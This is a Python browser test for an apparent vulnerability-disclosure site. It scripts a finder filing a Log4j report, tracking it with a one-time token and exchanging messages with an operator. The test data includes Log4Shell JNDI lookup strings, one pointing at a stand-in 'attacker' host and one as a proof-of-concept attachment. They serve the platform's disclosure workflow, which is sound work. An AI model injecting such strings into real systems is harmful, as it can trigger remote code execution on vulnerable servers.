"""The finder's story in a real browser, by clicking and typing: a report with a proof of
concept, the tracking token shown once, the status page, a message to the coordinator;
the operator signs in, finds the report and replies; the finder sees the reply. On SQLite
and PostgreSQL. Any console error, uncaught exception, dialog or 5xx fails it."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from tests.functional.conftest import Platform
from tests.support.browser import Watch
from tests.support.factory import PASSWORD

TITLE = "Remote code execution through JNDI lookups in log messages"


def _report(page: Any, base: str, tmp_path: Path) -> str:
    page.goto(base + "/")
    page.get_by_role("link", name="Report a vulnerability").first.click()
    page.get_by_label("Title").press_sequentially(TITLE)
    page.get_by_label("Affected product").press_sequentially("Apache Log4j 2, log4j-core")
    page.get_by_label("Affected versions").press_sequentially("2.0-beta9 to 2.14.1")
    page.get_by_label("Description").press_sequentially(
        "Logging ${jndi:ldap://attacker/a} makes log4j-core load and run remote code."
    )
    page.get_by_role("group", name="Is it being exploited?").get_by_label("No", exact=True).check()
    poc = tmp_path / "poc.txt"
    poc.write_text("${jndi:ldap://127.0.0.1:1389/a}\n")
    page.get_by_label("Attachments").set_input_files(str(poc))
    page.get_by_role("button", name="Send the report").click()
    page.wait_for_url("**/report/received")
    token: str = page.locator("[data-tracking-token]").inner_text()
    assert token.startswith("chr_")
    return token


def test_a_finder_reports_follows_and_hears_back(
    platform: Platform, browser: Any, tmp_path: Path
) -> None:
    base = platform.url
    watch = Watch()
    finder = watch.attach(browser.new_context().new_page())
    token = _report(finder, base, tmp_path)
    tracking_url = finder.locator("[data-tracking-url]").inner_text()
    finder.get_by_role("link", name="Check the status of your report").click()
    finder.wait_for_url("**/reports/track")
    assert finder.get_by_role("heading", name=TITLE).is_visible()
    finder.goto(base + "/report/received")
    assert token not in finder.content()  # shown once

    finder.goto(base + "/reports/track")
    finder.get_by_label("Write to the coordinator").press_sequentially("Did you reproduce it?")
    finder.get_by_role("button", name="Send", exact=True).click()
    finder.wait_for_url("**/reports/track#messages")
    assert "Did you reproduce it?" in finder.locator(".messages").inner_text()

    operator = watch.attach(browser.new_context().new_page())
    operator.goto(base + "/")
    operator.get_by_role("link", name="Sign in").click()
    operator.get_by_label("E-mail address").press_sequentially(platform.world.operator_admin)
    operator.get_by_label("Password").press_sequentially(PASSWORD)
    operator.get_by_role("button", name="Sign in").click()
    operator.get_by_role("link", name="Reports", exact=True).click()
    operator.get_by_role("link", name=TITLE).click()
    assert "Did you reproduce it?" in operator.locator(".messages").inner_text()
    operator.get_by_label("Reply to the finder").press_sequentially("Yes: the vendor is told.")
    operator.get_by_role("button", name="Send", exact=True).click()
    operator.wait_for_url("**#messages")

    finder.reload()
    messages = finder.locator(".messages").inner_text()
    assert "Yes: the vendor is told." in messages
    assert platform.world.operator_admin not in messages

    # The e-mailed link holds the token in its fragment: another browser opens the report
    # with it, and the token leaves the address bar.
    elsewhere = watch.attach(browser.new_context().new_page())
    elsewhere.goto(tracking_url.replace(platform.settings.base_url, base))
    elsewhere.wait_for_url(base + "/reports/track")
    assert elsewhere.get_by_role("heading", name=TITLE).is_visible()
    assert "chr_" not in elsewhere.url
    watch.check()
